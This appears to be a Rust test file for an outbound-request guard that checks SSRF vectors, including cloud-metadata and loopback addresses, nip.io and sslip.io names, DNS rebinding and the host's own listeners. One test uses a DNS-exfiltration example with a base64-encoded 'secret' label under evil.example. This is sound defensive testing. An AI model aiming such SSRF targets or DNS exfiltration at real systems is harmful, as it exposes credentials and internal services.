//! Which addresses are dialled: the SSRF vectors, names that resolve to special addresses, rebinding, our own listeners.

use super::*;

#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum Expected {
    /// Allowed with an ordinary grant.
    Public,
    /// Allowed with a private grant only.
    Private,
    /// Refused with any grant.
    Never,
    /// Refused as text.
    Url,
}
use Expected::{Never, Private, Public};

/// Hosts as they may be written, with what becomes of them when everything that can be granted is granted. The hostile suite
/// tries the same ones through a component.
fn vectors() -> Vec<(&'static str, Expected)> {
    let text = include_str!("../../../../../tests/fixtures/ssrf-vectors.txt");
    let lines = text.lines().filter(|line| !line.starts_with('#'));
    let vectors = lines.map(|line| match line.split_once('\t') {
        Some(("public", host)) => (host, Public),
        Some(("private", host)) => (host, Private),
        Some(("never", host)) => (host, Never),
        Some(("url", host)) => (host, Expected::Url),
        _ => panic!("{line:?} is no vector"),
    });
    vectors.collect()
}

fn script() -> Arc<Script> {
    Arc::new(
        Script::default()
            .name("localhost", &[&["127.0.0.1", "::1"]])
            .name("metadata.google.internal", &[&["169.254.169.254"]])
            .name("127.0.0.1.nip.io", &[&["127.0.0.1"]])
            .name("169-254-169-254.nip.io", &[&["169.254.169.254"]])
            .name("app.10.0.0.5.sslip.io", &[&["10.0.0.5"]]),
    )
}

/// Each vector is declared and granted as far as it can be; a listener on all of loopback proves that nothing is dialled.
#[tokio::test]
async fn hc_44_vx_every_vector_is_decided_as_the_table_says() {
    assert_eq!(vectors().len(), 69);
    let spy = RawServer::start_at("0.0.0.0:0", |_| async { Ok(()) }).await;
    let port = spy.address.port();
    let spy6 = RawServer::start_at(&format!("[::1]:{port}"), |_| async { Ok(()) }).await;
    let egress = Egress::builder().resolver(script()).build().unwrap();

    for private in [false, true] {
        for (host, expected) in vectors() {
            let url =
                if host == "http:127.0.0.1" { format!("{host}:{port}") } else { format!("http://{host}:{port}/") };
            let origin = Url::parse(&url).ok().and_then(|url| Origin::of(&url).ok());
            let hosts: Vec<Origin> = origin.clone().into_iter().collect();
            let mut account = Account::new("https://root.example", &[]);
            account.policy.hosts.clone_from(&hosts);
            let grants =
                if private { &mut account.policy.grants.private_hosts } else { &mut account.policy.grants.hosts };
            *grants = hosts;
            let door = egress.door(account.policy, Credential::None, Vec::new(), account.tokens).unwrap();

            let allowed = expected == Public || (private && expected == Private);
            let decision = match door.prepare(&get(&url)) {
                Ok(prepared) => door.admit(&prepared.origin).await.map(|_| ()),
                Err(denial) => Err(SendError::Denied(denial)),
            };
            assert_eq!(decision.is_ok(), allowed, "{host}, private grant: {private}: {decision:?}");
            if allowed {
                continue;
            }
            let denial = denial(door.exchange(HttpLimits::default()).send(get(&url)).await);
            let layer = if expected == Expected::Url { Layer::Url } else { Layer::Address };
            assert_eq!(denial.layer(), layer, "{host}: {denial}");
            let line = denial.allow_with().is_some_and(|line| line.starts_with("grants.private_hosts"));
            assert_eq!(line, expected == Private, "only a private address can be allowed, {host}: {denial}");
        }
    }
    assert_eq!(spy.connections() + spy6.connections(), 0, "a refused address was dialled");
}

#[tokio::test]
async fn hc_45_names_with_private_addresses_are_refused_with_the_line_that_allows_them() {
    for address in ["10.0.0.5", "::1", "fd12::1", "192.168.1.1"] {
        let script = Arc::new(Script::default().name("shop.example", &[&[address]]));
        let account = Account::new("https://shop.example", &["https://shop.example"]).granted().resolver(&script);
        let denial = denial(account.exchange().send(get("/orders")).await);
        assert_eq!(denial.layer(), Layer::Address);
        assert_eq!(denial.allow_with(), Some(r#"grants.private_hosts = ["https://shop.example"]"#));
        assert!(denial.to_string().contains(address) && denial.to_string().contains("acme/hft71"), "{denial}");
    }
}

#[tokio::test]
async fn hc_46_rebinding_dials_only_checked_addresses() {
    let server = RawServer::answering(ok("[]")).await;
    let port = server.address.port();
    let spy = RawServer::start_at(&format!("127.0.0.2:{port}"), |_| async { Ok(()) }).await;
    // A name with a time to live of zero: another answer for every lookup.
    let script = Arc::new(
        Script::default().name("shop.example", &[&["127.0.0.1"], &["127.0.0.2", "169.254.169.254"], &["10.0.0.1"]]),
    );
    let root = format!("http://shop.example:{port}");
    let exchange = Account::at(&root).resolver(&script).exchange();

    assert_eq!(exchange.send(post("/orders", "{}")).await.unwrap().body, "[]");
    assert_eq!(script.lookups(), 1, "looked up once: what was checked is what is dialled");
    assert_eq!(denial(exchange.send(post("/orders", "{}")).await).layer(), Layer::Address);
    assert_eq!(script.lookups(), 2);
    assert_eq!((server.connections(), spy.connections()), (1, 0));
}

#[tokio::test]
async fn hc_46_an_answer_that_mixes_public_and_private_is_refused_whole() {
    for addresses in [["1.1.1.1", "127.0.0.1"], ["10.0.0.1", "2606:4700:4700::1111"]] {
        for private in [false, true] {
            let script = Arc::new(Script::default().name("shop.example", &[&addresses]));
            let account = Account::new("https://shop.example", &["https://shop.example"]).resolver(&script);
            let account = if private { account.privately() } else { account.granted() };
            let denial = denial(account.exchange().send(get("/")).await);
            assert_eq!(denial.layer(), Layer::Address, "{denial}");
        }
    }
}

#[tokio::test]
async fn a_pooled_private_connection_is_not_found_without_a_private_grant() {
    let (port, script) = {
        let server = RawServer::start(|mut connection| async move {
            connection.write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\nok").await?;
            // Kept open: the client may keep the connection.
            std::future::pending().await
        })
        .await;
        (server.address.port(), Arc::new(Script::default().name("shop.example", &[&["127.0.0.1"]])))
    };
    let root = format!("http://shop.example:{port}");
    let egress = Egress::builder().resolver(script).build().unwrap();
    let door = |account: Account| egress.door(account.policy, Credential::None, Vec::new(), account.tokens).unwrap();
    let granted = door(Account::at(&root)).exchange(HttpLimits::default());
    assert_eq!(granted.send(get("/")).await.unwrap().body, "ok");
    let other = door(Account::new(&root, &[&root]).granted()).exchange(HttpLimits::default());
    assert_eq!(denial(other.send(get("/")).await).layer(), Layer::Address);
}

#[tokio::test]
async fn hc_55_the_hosts_own_listeners_are_never_dialled() {
    let own = RawServer::answering(ok("metrics")).await;
    let port = own.address.port();
    for listener in [format!("127.0.0.1:{port}"), format!("0.0.0.0:{port}"), format!("[::]:{port}")] {
        let mut account = Account::at(&own.origin());
        account.egress = account.egress.own_addresses(vec![listener.parse().unwrap()]);
        let denial = denial(account.exchange().send(get("/metrics")).await);
        assert_eq!(denial.layer(), Layer::Address);
        assert!(denial.to_string().contains("this host itself listens"), "{denial}");
    }
    assert_eq!(own.connections(), 0);
    // Another port of the same address is not its own.
    let neighbour = RawServer::answering(ok("shop")).await;
    let mut account = Account::at(&neighbour.origin());
    account.egress = account.egress.own_addresses(vec![own.address]);
    assert_eq!(account.exchange().send(get("/")).await.unwrap().body, "shop");
}

#[tokio::test]
async fn names_are_looked_up_only_when_granted() {
    let script = Arc::new(Script::default().name("granted.example", &[&["10.0.0.1"]]));
    let exchange =
        Account::new("https://granted.example", &["https://granted.example"]).granted().resolver(&script).exchange();
    // A name is a message to whoever runs its name server.
    assert_eq!(denial(exchange.send(get("https://c2VjcmV0.evil.example/")).await).layer(), Layer::Manifest);
    assert_eq!(script.lookups(), 0);
}

#[tokio::test]
async fn a_name_that_does_not_resolve_is_not_sent() {
    let script = Arc::new(Script::default().name("empty.example", &[&[]]));
    for host in ["https://empty.example", "https://unknown.example"] {
        let outcome = Account::new(host, &[host]).granted().resolver(&script).exchange().send(get("/")).await;
        assert!(
            matches!(outcome, Err(SendError::NotSent(ref text)) if text.contains("could not be looked up")),
            "{outcome:?}"
        );
    }
}
